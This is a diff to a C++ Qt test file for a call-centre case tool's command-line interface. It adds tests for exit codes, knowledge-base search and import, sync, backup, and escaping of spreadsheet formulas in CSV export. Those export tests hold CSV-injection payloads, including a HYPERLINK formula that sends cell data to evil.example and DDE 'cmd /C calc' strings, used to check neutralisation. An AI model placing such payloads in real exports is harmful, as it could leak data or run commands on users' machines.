@@ -110,6 +110,18 @@ private Q_SLOTS:
     void dbRecoverRefusesASoundOrUnreadableStore();
     void seedDemoThroughCli();
     void seedDemoRefusedWhileLocked();
+    void helpDocumentsEveryExitCode();
+    void kbSearchLimitAndGlobalDataDir();
+    void kbSearchWithoutStoreOrArticles();
+    void kbImportRefusedWhileLocked();
+    void kbImportNotAFolderAndSkippedFiles();
+    void syncTakesTheGlobalDataDir();
+    void neutraliseFormula_data();
+    void neutraliseFormula();
+    void exportNeutralisesFormulas();
+    void dbBackupNamesTheDestination();
+    void dbRecoverFailureGivesAReasonAndLeavesNoFolder();
+    void normalizeTextStripsControls();
 };
 
 void TestCommands::initTestCase()
@@ -231,6 +243,12 @@ void TestCommands::dispatch_data()
     QTest::newRow("export without dates") << QStringList{"export", "cases"} << 2 << "--from DATE";
     QTest::newRow("kb without a subcommand") << QStringList{"kb"} << 2 << "kb";
     QTest::newRow("help") << QStringList{"--help"} << 0 << "";
+    QTest::newRow("limit outside kb search")
+        << QStringList{"db", "check", "--limit", "3"} << 2 << "--limit is only for kb search";
+    QTest::newRow("limit on kb import")
+        << QStringList{"kb", "import", "/tmp", "--limit", "3"} << 2 << "--limit is only for kb search";
+    QTest::newRow("kb search bad limit")
+        << QStringList{"kb", "search", "x", "--limit", "0"} << 2 << "1 to 200";
 }
 
 void TestCommands::dispatch()
@@ -487,8 +505,8 @@ void TestCommands::dbCheckGoodStore()
     const QString schema = QStringLiteral("schema version: %1 (this pasokhctl knows %1)\n")
                                .arg(Pasokh::Storage::Database::latestSchemaVersion());
     QVERIFY2(c.out.contains(schema), qPrintable(c.out));
-    for (const char *line : {"integrity: ok\n", "cases: 2\n", "calls: 0\n", "case events: 2\n", "callers: 2\n",
-                             "outbox pending: 1\n", "outbox parked: 1\n"})
+    for (const char *line : {"integrity: ok\n", "cases: 2\n", "calls: 0\n", "case events: 2\n",
+                             "callers: 2\n", "outbox pending: 1\n", "outbox parked: 1\n"})
         QVERIFY2(c.out.contains(QLatin1String(line)), line);
 }
 
@@ -496,8 +514,10 @@ void TestCommands::dbCheckMissingStore()
 {
     QTemporaryDir dir;
     const Captured c = runCli({"db", "check", "--data-dir", dir.path()});
-    QCOMPARE(c.code, 1);
+    QCOMPARE(c.code, int(Ctl::ExitNoStore));
+    QCOMPARE(c.code, 4);
     QVERIFY2(c.err.startsWith(QLatin1String("No Pasokh store at")), qPrintable(c.err));
+    QVERIFY2(c.out.isEmpty(), qPrintable(c.out)); // no "integrity: FAILED" for a store that is not there
     QVERIFY(!QFile::exists(Storage::storePath(dir.path()))); // nothing created
 }
 
@@ -623,6 +643,265 @@ void TestCommands::seedDemoRefusedWhileLocked()
     QCOMPARE(c.code, 1);
     QVERIFY2(c.err.startsWith(QLatin1String("Cannot use")), qPrintable(c.err));
     QVERIFY(!QFile::exists(Storage::storePath(dir.path())));
+}
+
+void TestCommands::helpDocumentsEveryExitCode()
+{
+    const Captured c = runCli({"--help"});
+    QCOMPARE(c.code, 0);
+    for (const char *line :
+         {"  0  done", "  1  invalid value", "  2  bad command line", "  3  kb import finished but skipped",
+          "  4  no store in the data folder", "  5  kb search: the knowledge base has no articles",
+          "kb search QUERY [--limit N]", "--data-dir DIR, before or after the command", "CSV Injection"})
+        QVERIFY2(c.out.contains(QLatin1String(line)), line);
+}
+
+namespace {
+
+QString starterArticles()
+{
+    return qEnvironmentVariable("PASOKH_SOURCE_DIR") + QStringLiteral("/resources/kb");
+}
+
+} // namespace
+
+void TestCommands::kbSearchLimitAndGlobalDataDir()
+{
+    QTemporaryDir dir;
+    QVERIFY(QFileInfo(starterArticles()).isDir());
+    const Captured imported = runCli({"--data-dir", dir.path(), "kb", "import", starterArticles()});
+    QCOMPARE(imported.code, 0);
+    QVERIFY2(imported.out.startsWith(QLatin1String("added ")), qPrintable(imported.out));
+    // --limit after the query (the usage advertises it), --data-dir before or after the command.
+    const QString query = QStringLiteral("زباله");
+    for (const QStringList &args :
+         {QStringList{"kb", "search", query, "--limit", "3", "--data-dir", dir.path()},
+          QStringList{"--data-dir", dir.path(), "kb", "search", query, "--limit", "3"},
+          QStringList{"--data-dir=" + dir.path(), "kb", "search", "--limit=3", query}}) {
+        const Captured c = runCli(args);
+        QCOMPARE(c.code, 0);
+        QVERIFY2(c.err.isEmpty(), qPrintable(c.err));
+        const QStringList lines = c.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+        QCOMPARE(lines.size(), 3);
+        for (const QString &line : lines)
+            QVERIFY2(line.contains(QLatin1Char('\t')), qPrintable(line));
+    }
+    const Captured all = runCli({"kb", "search", query, "--data-dir", dir.path()});
+    QCOMPARE(all.code, 0);
+    QVERIFY(all.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts).size() > 3);
+    // A search without hits on a store with articles is still a success, with no output.
+    const Captured none = runCli({"kb", "search", "qqqxyzzy", "--data-dir", dir.path()});
+    QCOMPARE(none.code, 0);
+    QVERIFY(none.out.isEmpty());
+}
+
+void TestCommands::kbSearchWithoutStoreOrArticles()
+{
+    QTemporaryDir dir;
+    const Captured noStore = runCli({"kb", "search", "زباله", "--data-dir", dir.path()});
+    QCOMPARE(noStore.code, int(Ctl::ExitNoStore));
+    QVERIFY2(noStore.err.contains(QLatin1String("No Pasokh store at")), qPrintable(noStore.err));
+    QVERIFY2(noStore.err.contains(QLatin1String("pasokhctl kb import DIR")), qPrintable(noStore.err));
+    QVERIFY(!QFile::exists(Storage::storePath(dir.path()))); // a search creates nothing
+
+    TestStore store; // a store with cases but no article
+    QVERIFY(store.ok());
+    const Captured empty = runCli({"kb", "search", "زباله", "--data-dir", store.dir()});
+    QCOMPARE(empty.code, int(Ctl::ExitNoArticles));
+    QCOMPARE(empty.code, 5);
+    QVERIFY(empty.out.isEmpty());
+    QCOMPARE(
+        empty.err,
+        QStringLiteral("The knowledge base has no articles; import them with: pasokhctl kb import DIR\n"));
+}
+
+void TestCommands::kbImportRefusedWhileLocked()
+{
+    QTemporaryDir dir;
+    auto lock = Storage::InstanceLock::acquire(dir.path());
+    QVERIFY(lock.ok());
+    const Captured c = runCli({"kb", "import", starterArticles(), "--data-dir", dir.path()});
+    QCOMPARE(c.code, 1);
+    QVERIFY2(c.err.startsWith(QLatin1String("Cannot use")), qPrintable(c.err));
+    QVERIFY(c.out.isEmpty());
+    QVERIFY(!QFile::exists(Storage::storePath(dir.path())));
+}
+
+void TestCommands::kbImportNotAFolderAndSkippedFiles()
+{
+    QTemporaryDir dir;
+    const QString file = dir.filePath(QStringLiteral("passwd"));
+    {
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("root:x:0:0\n");
+    }
+    const Captured notFolder = runCli({"kb", "import", file, "--data-dir", dir.filePath("data")});
+    QCOMPARE(notFolder.code, 1);
+    QVERIFY2(notFolder.err.contains(QLatin1String("is not a folder")), qPrintable(notFolder.err));
+    QVERIFY2(!notFolder.err.contains(QLatin1String("does not exist")), qPrintable(notFolder.err));
+    const Captured missing =
+        runCli({"kb", "import", dir.filePath("nothing-here"), "--data-dir", dir.filePath("data")});
+    QCOMPARE(missing.code, 1);
+    QVERIFY2(missing.err.contains(QLatin1String("does not exist")), qPrintable(missing.err));
+
+    // One good article and one broken file: imported with exit 3, the skipped file named.
+    const QString articles = dir.filePath(QStringLiteral("articles"));
+    QVERIFY(QDir().mkpath(articles));
+    QVERIFY(QFile::copy(starterArticles() + QStringLiteral("/10-waste-collection.md"),
+                        articles + QStringLiteral("/10-waste-collection.md")));
+    {
+        QFile f(articles + QStringLiteral("/99-broken.md"));
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("no front matter at all\n");
+    }
+    const Captured partial = runCli({"kb", "import", articles, "--data-dir", dir.filePath("data")});
+    QCOMPARE(partial.code, int(Ctl::ExitPartial));
+    QCOMPARE(partial.code, 3);
+    QVERIFY2(partial.out.startsWith(QLatin1String("added 1,")), qPrintable(partial.out));
+    QVERIFY2(partial.err.contains(QLatin1String("99-broken.md")), qPrintable(partial.err));
+}
+
+void TestCommands::syncTakesTheGlobalDataDir()
+{
+    QTemporaryDir dir;
+    const QString missing = dir.filePath(QStringLiteral("no-store"));
+    qputenv("PASOKH_HUB_PASSWORD", "secret-password");
+    // Before the fix: "Unknown options: hub, user, once, timeout." (exit 2). Now sync runs on that folder and
+    // stops at its missing store, before any connection.
+    const Captured once = runCli({"--data-dir", missing, "sync", "--hub", "http://127.0.0.1:9", "--user",
+                                  "op1", "--once", "--timeout", "1"});
+    qunsetenv("PASOKH_HUB_PASSWORD");
+    QCOMPARE(once.code, 1);
+    QCOMPARE(once.err, QStringLiteral("No store in %1.\n").arg(QDir::toNativeSeparators(missing)));
+    const Captured statusMissing = runCli({"--data-dir", missing, "sync", "status"});
+    QCOMPARE(statusMissing.code, 1);
+    QCOMPARE(statusMissing.err, QStringLiteral("No store in %1.\n").arg(QDir::toNativeSeparators(missing)));
+
+    TestStore store;
+    QVERIFY(store.ok());
+    QVERIFY(store.cases().registerCase(TestStore::sampleCase()).ok());
+    const Captured before = runCli({"--data-dir", store.dir(), "sync", "status"});
+    const Captured after = runCli({"sync", "status", "--data-dir", store.dir()});
+    QCOMPARE(before.code, 0);
+    QVERIFY2(before.err.isEmpty(), qPrintable(before.err));
+    QCOMPARE(before.out, after.out);
+    QVERIFY2(before.out.contains(QLatin1String("pending")), qPrintable(before.out));
+    // The same folder twice is fine; two different ones are refused.
+    QCOMPARE(runCli({"--data-dir", store.dir(), "sync", "status", "--data-dir", store.dir()}).code, 0);
+    const Captured twice = runCli({"--data-dir", store.dir(), "sync", "status", "--data-dir", missing});
+    QCOMPARE(twice.code, 2);
+    QVERIFY2(twice.err.contains(QLatin1String("--data-dir is given twice")), qPrintable(twice.err));
+}
+
+void TestCommands::neutraliseFormula_data()
+{
+    QTest::addColumn<QString>("cell");
+    QTest::addColumn<QString>("written");
+    QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x.example\",\"click\")"
+                               << "'=HYPERLINK(\"http://x.example\",\"click\")";
+    QTest::newRow("plus") << "+SUM(A1:A9)"
+                          << "'+SUM(A1:A9)";
+    QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0"
+                           << "'-2+3+cmd|' /C calc'!A0";
+    QTest::newRow("at") << "@SUM(1)"
+                        << "'@SUM(1)";
+    QTest::newRow("tab") << "\t=1"
+                         << "'\t=1";
+    QTest::newRow("carriage return") << "\r=1"
+                                     << "'\r=1";
+    QTest::newRow("plain text") << "زباله = مانده"
+                                << "زباله = مانده";
+    QTest::newRow("empty") << ""
+                           << "";
+    QTest::newRow("negative number") << "-36.500000"
+                                     << "-36.500000";
+    QTest::newRow("e164") << "+989151234567"
+                          << "+989151234567";
+    QTest::newRow("dash then text") << "- three days"
+                                    << "'- three days";
+}
+
+void TestCommands::neutraliseFormula()
+{
+    QFETCH(QString, cell);
+    QFETCH(QString, written);
+    QCOMPARE(Ctl::neutraliseFormula(cell), written);
+}
+
+void TestCommands::exportNeutralisesFormulas()
+{
+    TestStore store;
+    QVERIFY(store.ok());
+    Core::CaseRecord evil = trickyCase();
+    evil.description = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+    evil.location.address = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    evil.caller.name = QStringLiteral("+cmd");
+    QVERIFY(store.cases().registerCase(evil).ok());
+    const Captured c = exportToday(store.dir(), true);
+    QCOMPARE(c.code, 0);
+    const auto records = Storage::Csv::parseRecords(c.out.toUtf8());
+    QVERIFY(records.ok());
+    QCOMPARE(records.value().size(), 1);
+    const auto &row = records.value().at(0);
+    QCOMPARE(row.value("description"), QStringLiteral("'") + evil.description);
+    QCOMPARE(row.value("address"), QStringLiteral("'") + evil.location.address);
+    QCOMPARE(row.value("caller_name"), QStringLiteral("'+cmd"));
+    QCOMPARE(row.value("caller_phone"), QStringLiteral("+989357654321")); // a number stays a number
+    QCOMPARE(row.value("lat"), QStringLiteral("36.300000"));
+    for (const auto &[column, value] : row.asKeyValueRange())
+        QVERIFY2(!value.startsWith(QLatin1Char('=')) && !value.startsWith(QLatin1Char('@')),
+                 qPrintable(column));
+}
+
+void TestCommands::dbBackupNamesTheDestination()
+{
+    TestStore store;
+    QVERIFY(store.ok());
+    const QString target = QStringLiteral("/nonexistent-pasokh-dir/sub/x.sqlite");
+    const Captured c = runCli({"db", "backup", target, "--data-dir", store.dir()});
+    QCOMPARE(c.code, 1);
+    QCOMPARE(c.err, QStringLiteral("Cannot write the backup: the destination folder %1 does not exist.\n")
+                        .arg(QDir::toNativeSeparators(QStringLiteral("/nonexistent-pasokh-dir/sub"))));
+    QVERIFY(!c.err.contains(QLatin1String("data folder")));
+    QVERIFY(c.out.isEmpty());
+    // No store: exit 4, whatever the destination.
+    QTemporaryDir empty;
+    const Captured noStore = runCli({"db", "backup", empty.filePath("b.sqlite"), "--data-dir", empty.path()});
+    QCOMPARE(noStore.code, int(Ctl::ExitNoStore));
+}
+
+void TestCommands::dbRecoverFailureGivesAReasonAndLeavesNoFolder()
+{
+    QTemporaryDir dir;
+    QCOMPARE(runCli({"seed-demo", "--cases", "5", "--data-dir", dir.path()}).code, 0);
+    {
+        QFile f(Storage::storePath(dir.path()));
+        QVERIFY(f.open(QIODevice::ReadWrite));
+        f.write(QByteArray(16, '\x5a')); // header gone: nothing can be read
+    }
+    const Captured c = runCli({"db", "recover", "--data-dir", dir.path()});
+    QCOMPARE(c.code, 1);
+    QVERIFY2(c.err.startsWith(QLatin1String("db recover failed (recover_failed): ")), qPrintable(c.err));
+    QVERIFY2(!c.err.endsWith(QLatin1String(": \n")) && !c.err.endsWith(QLatin1String(":\n")),
+             qPrintable(c.err));
+    const QString reason = c.err.section(QLatin1String("): "), 1).trimmed();
+    QVERIFY2(!reason.section(QLatin1Char(':'), -1).trimmed().isEmpty(), qPrintable(c.err));
+    QVERIFY2(!QFileInfo::exists(dir.filePath(QStringLiteral("quarantine"))), "empty quarantine folder left");
+    QVERIFY(QFile::exists(Storage::storePath(dir.path()))); // the damaged file is back in its place
+}
+
+void TestCommands::normalizeTextStripsControls()
+{
+    const Captured c =
+        runCli({"normalize", "text",
+                QStringLiteral("\x1b[31mزباله\x1b]0;title\x07 ") + QChar(0x9b) + QStringLiteral("2J\tکوچه")});
+    QCOMPARE(c.code, 0);
+    for (const QChar ch : c.out.chopped(1))
+        QVERIFY2(ch.unicode() >= 0x20 && !(ch.unicode() >= 0x7f && ch.unicode() <= 0x9f),
+                 qPrintable(QString::number(ch.unicode(), 16)));
+    QVERIFY(c.out.endsWith(QLatin1Char('\n')));
+    QVERIFY2(c.out.contains(QStringLiteral("زباله")), qPrintable(c.out));
 }
 
 QTEST_GUILESS_MAIN(TestCommands)
